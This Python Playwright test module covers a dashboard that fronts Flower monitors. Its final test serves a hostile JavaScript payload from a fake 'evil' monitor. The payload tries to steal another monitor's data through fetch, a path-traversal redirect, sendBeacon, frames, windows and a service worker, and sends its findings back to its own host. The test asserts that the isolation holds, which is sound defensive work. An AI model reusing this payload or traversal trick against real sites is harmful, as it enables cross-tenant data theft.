"""The fleet in a browser: its pages, a monitor of ours through it, and one that means ill and reaches no other."""

import asyncio
import json
import re
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import NamedTuple
from urllib.parse import unquote

import pytest
from playwright.sync_api import Browser, Page, expect

from flower_operator import connection
from flower_operator.kinds import FLOWER_MONITOR
from flower_operator.kube import connect
from flower_operator.spec import Key
from tests.dashboard.site import PAGE
from tests.dashboard.test_look import violations
from tests.fleet.fake_monitor import FakeMonitor, fake_monitor, reply
from tests.fleet.made import manifest, summary_body
from tests.fleet.people import account
from tests.fleet.program import until
from tests.fleet.world import INTO, OPERATOR, TEAM_A, TEAM_B, World, world
from tests.support import ci
from tests.support.celery import send, worker
from tests.support.chromium import PATIENCE, chromium, visit
from tests.support.kube_programs import Access

__all__ = ["world"]

pytestmark = pytest.mark.xdist_group("fleet page")

EVIL = Key(TEAM_B, "evil")
LONG = Key(TEAM_A, "reconciliation-of-payments-eu-central-1")
"""Its name has no room in a table."""


class People(NamedTuple):
    """The evil monitor, and the tokens of people."""

    evil: FakeMonitor
    admin: str
    """Of one who may everything in all namespaces."""
    of_team_a: str
    """Of a viewer of team A."""
    viewer: tuple[str, str]
    """The password of a viewer of everything, of whom Kubernetes need not be asked."""


@pytest.fixture(scope="module")
def people(kube_server: Access, world: World) -> Iterator[People]:
    if not PAGE.exists():
        ci.missing("the pages are not built; run `make dashboard`")
    with fake_monitor() as evil:
        admin, of_team_a = asyncio.run(prepare(kube_server, evil.port))
        path = f"/api/v1/monitors/{TEAM_B}/evil"
        until(lambda: world.fleet.get(path).status_code, lambda status: status == 200)
        assert world.fleet.login is not None
        yield People(evil, admin, of_team_a, world.fleet.login)
        asyncio.run(clear(kube_server))


async def prepare(kube_server: Access, port: int) -> tuple[str, str]:
    async with connect(await connection.load(kube_server.kubeconfig)) as api:
        for key in (EVIL, LONG):
            await api.create(FLOWER_MONITOR, key.namespace, manifest(key, {"service": {"port": port}}))
        admin = await account(api, OPERATOR, "get", "update", "administer")
        return admin, await account(api, OPERATOR, "get", within=TEAM_A)


async def clear(kube_server: Access) -> None:
    async with connect(await connection.load(kube_server.kubeconfig)) as api:
        for key in (EVIL, LONG):
            await api.delete(FLOWER_MONITOR, *key)


@pytest.fixture(scope="module")
def browser(people: People) -> Iterator[Browser]:
    """Started after `people`: it keeps asyncio busy in this thread."""
    with chromium() as started:
        yield started


# Chromium warns of frames with such a sandbox, which their parent could take off them. This is no frame.
def test_a_monitors_page_lives(world: World, people: People, browser: Browser, tmp_path: Path) -> None:
    """Its scripts, its API and its stream, all by way of the fleet, with a Kubernetes token as login."""
    with (
        worker(world.broker.url, tmp_path),
        visit(browser, world.fleet.url, ("token", people.admin)) as visitor,
    ):
        visitor.page.goto(f"{INTO}/tasks")
        expect(visitor.page.get_by_text("Live", exact=True)).to_be_visible(timeout=PATIENCE)
        uuid = send(world.broker.url, "add", 1, 2)
        expect(visitor.page.locator(f"[role=row][data-id='{uuid}']")).to_be_visible(timeout=PATIENCE)
        visitor.page.goto(f"{INTO}/task/{uuid}")
        expect(visitor.page.get_by_text(uuid).first).to_be_visible(timeout=PATIENCE)
        assert [fault for fault in visitor.faults if "can escape its sandboxing" not in fault] == []


def test_a_monitor_is_opened_from_the_map_and_left_with_the_same_range(
    world: World, people: People, browser: Browser
) -> None:
    """Though a page between the two has no range."""
    with visit(browser, world.fleet.url, people.viewer) as visitor:
        page = visitor.page
        page.goto(f"/?view=map&search={TEAM_A}&range=6h")
        expect(page.get_by_role("link", name="orders")).to_be_visible(timeout=PATIENCE)
        assert violations(page) == []
        page.get_by_role("link", name="orders").click()
        expect(page.get_by_role("combobox", name="Time range")).to_have_text("Last 6 hours", timeout=PATIENCE)
        page.get_by_role("link", name="Doctor").click()
        expect(page.get_by_role("heading", name="Doctor")).to_be_attached(timeout=PATIENCE)
        expect(page.get_by_role("combobox", name="Time range")).to_have_count(0)
        page.get_by_role("link", name="Fleet").click()
        expect(page.get_by_role("combobox", name="Time range")).to_have_text("Last 6 hours", timeout=PATIENCE)
        expect(page.get_by_role("grid", name="Monitors")).to_be_visible(timeout=PATIENCE)


def test_a_monitor_is_opened_by_its_name_with_the_same_range(world: World, people: People, browser: Browser) -> None:
    """From the palette, by the keyboard alone."""
    with visit(browser, world.fleet.url, people.viewer) as visitor:
        page = visitor.page
        page.goto(f"/?search={TEAM_A}&range=6h")
        expect(page.get_by_role("link", name="orders")).to_be_visible(timeout=PATIENCE)
        page.keyboard.press("Control+k")
        expect(page.get_by_role("dialog", name="Go to anything").get_by_role("combobox")).to_be_focused()
        page.keyboard.type(f"{TEAM_A}/ord")
        expect(page.get_by_role("option", name=f"{TEAM_A}/orders")).to_be_visible(timeout=PATIENCE)
        assert violations(page, "dialog[open]") == []
        page.keyboard.press("Enter")
        expect(page).to_have_url(re.compile(f"{INTO}/overview.range=6h$"), timeout=PATIENCE)


def test_two_are_marked_by_keys_and_compared(world: World, people: People, browser: Browser) -> None:
    """One of them answers with what is no history: it says so in its column, and the other's numbers stand."""
    people.evil.answer = lambda handler: reply(handler, 200, summary_body())
    with visit(browser, world.fleet.url, people.viewer) as visitor:
        page = visitor.page
        page.goto(f"/?view=map&search={TEAM_B}&range=24h&a={TEAM_A}/orders")
        expect(page.get_by_role("link", name="evil")).to_be_visible(timeout=PATIENCE)
        until(lambda: gone_to(page), lambda name: name == "evil")  # the page hears keys a moment after it is drawn
        page.keyboard.press("x")
        expect(page.get_by_role("link", name="Compare the two")).to_be_visible(timeout=PATIENCE)
        page.keyboard.press("c")
        evil = page.get_by_role("columnheader", name="evil")
        expect(evil).to_contain_text(re.compile("answered what can.t be read"), timeout=PATIENCE)
        rate = page.get_by_role("row", name=re.compile("^Tasks a minute")).get_by_role("link").first
        expect(rate).to_have_text(re.compile("[0-9]"), timeout=PATIENCE)
        expect(rate).to_have_attribute("href", re.compile(f"/n/{TEAM_A}/orders/tasks.range=24h$"))
        expect(page.get_by_role("figure", name=re.compile("^Throughput"))).to_be_visible()
        assert violations(page) == []
        assert visitor.faults == []


@pytest.mark.parametrize("width", [1280, 1440])
def test_all_columns_are_in_sight_whatever_the_names(
    world: World, people: People, browser: Browser, width: int
) -> None:
    """The table has no scroll bar below it: of each row the last cell is within it."""
    with visit(browser, world.fleet.url, people.viewer, viewport={"width": width, "height": 800}) as visitor:
        visitor.page.goto("/")
        expect(visitor.page.get_by_role("link", name=LONG.name)).to_be_visible(timeout=PATIENCE)
        grid = visitor.page.get_by_role("grid", name="Monitors")
        assert grid.evaluate("grid => grid.scrollWidth - grid.clientWidth") == 0
        heard = grid.get_by_role("columnheader", name="Heard")
        expect(heard).to_be_in_viewport(ratio=1)


def gone_to(page: Page) -> str:
    """What has the focus after the key for the next tile."""
    page.keyboard.press("j")
    name: str = page.evaluate("document.activeElement.textContent")
    return name


def test_one_that_somebody_may_not_see_is_no_more_there_than_a_wrong_name(
    world: World, people: People, browser: Browser
) -> None:
    with visit(browser, world.fleet.url, ("token", people.of_team_a)) as visitor:
        for hidden in (f"{TEAM_B}/evil", f"{TEAM_B}/no-such"):
            visitor.page.goto(f"/compare?a={TEAM_A}/orders&b={hidden}")
            said = visitor.page.get_by_role("heading", name=f"There is no monitor {hidden}")
            expect(said).to_be_visible(timeout=PATIENCE)
        assert visitor.faults == []


ATTACK = """
const said = [];
const tell = (what) => fetch('told?' + encodeURIComponent(what));
const steal = async (how, get) => {
  try { said.push(how + ': ' + (await get())); } catch (error) { said.push(how + ': refused'); }
};
(async () => {
  const target = TARGET;
  await steal('fetch', async () => (await fetch(target)).text());
  await steal('redirect', async () => (await fetch('away')).text());
  await steal('beacon', async () => navigator.sendBeacon(target, 'x'));
  await steal('window', async () => window.open('/').document.title);
  await steal('frame', async () => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    frame.src = '/';
    await new Promise((resolve) => setTimeout(resolve, 500));
    return frame.contentWindow.fetch(target).then((answer) => answer.text());
  });
  await steal('worker', async () => (await navigator.serviceWorker.register('evil.js', {scope: '/'})).scope);
  await tell(JSON.stringify(said));
})();
"""


def test_an_evil_monitors_page_reaches_no_other_monitor(world: World, people: People, browser: Browser) -> None:
    """Though it has the origin of all of them, and the one who looks at it may everything everywhere."""
    evil, target = people.evil, f"{INTO}/api/v1/summary"

    def answer(handler: BaseHTTPRequestHandler) -> None:
        if handler.path == "/":
            reply(handler, 200, b"<body><script src=evil.js></script>", **{"Content-Type": "text/html"})
        elif handler.path == "/evil.js":
            script = ATTACK.replace("TARGET", json.dumps(target)).encode()
            reply(handler, 200, script, **{"Content-Type": "text/javascript", "Service-Worker-Allowed": "/"})
        elif handler.path == "/away":
            reply(handler, 302, b"", Location="/%2e%2e/%2e%2e" + target.removeprefix("/n"))
        else:
            reply(handler, 200, summary_body())

    evil.answer = answer
    with visit(browser, world.fleet.url, ("token", people.admin)) as visitor:
        visitor.page.goto("/")  # from here on the browser sends the login everywhere
        visitor.page.goto(f"/n/{TEAM_B}/evil/")
        told = until(lambda: [path for path in evil.paths if path.startswith("/told?")], lambda paths: len(paths) == 1)
    said = {one.split(": ")[0]: one.split(": ", 1)[1] for one in json.loads(unquote(told[0].removeprefix("/told?")))}
    assert "orders" not in str(said)
    assert (said["fetch"], said["window"], said["worker"]) == ("refused", "refused", "refused")
    written = [entry["path"] for entry in world.orders.get("/api/v1/audit")["items"]]
    assert "/api/v1/summary" not in written, "the beacon is a write, which would be in the audit"
